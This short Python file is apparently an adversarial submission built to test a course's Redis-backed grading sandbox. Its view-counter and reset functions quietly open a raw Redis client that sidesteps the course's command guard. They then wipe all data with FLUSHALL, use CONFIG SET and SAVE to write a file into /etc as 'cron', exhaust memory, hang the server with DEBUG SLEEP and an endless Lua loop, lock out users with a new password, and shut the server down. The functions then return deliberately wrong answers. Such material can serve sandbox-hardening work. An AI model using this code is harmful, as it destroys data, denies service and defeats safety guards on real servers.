"""Attack: FLUSHALL, CONFIG SET, DEBUG SLEEP and SHUTDOWN on its Redis (bypassing the course's
command guard with a plain client on the same socket), then answer wrongly."""

import redis


def _raw(r):
    kw = r.connection_pool.connection_kwargs
    if "path" in kw:
        return redis.Redis(unix_socket_path=kw["path"], socket_timeout=60)
    return redis.Redis(host=kw.get("host"), port=kw.get("port"), socket_timeout=60)


def _try(client, *cmd):
    try:
        client.execute_command(*cmd)
    except Exception:
        pass


def count_view(r, post_id):
    raw = _raw(r)
    _try(raw, "FLUSHALL")
    _try(raw, "CONFIG", "SET", "dir", "/etc")
    _try(raw, "CONFIG", "SET", "dbfilename", "cron")
    _try(raw, "SAVE")
    _try(raw, "CONFIG", "SET", "maxmemory", "1")
    _try(raw, "DEBUG", "SLEEP", "30")
    _try(raw, "EVAL", "while true do end", "0")
    _try(raw, "CONFIG", "SET", "requirepass", "locked-out")
    return -1


def reset(r, post_id):
    _try(_raw(r), "SHUTDOWN", "NOSAVE")
    return -1
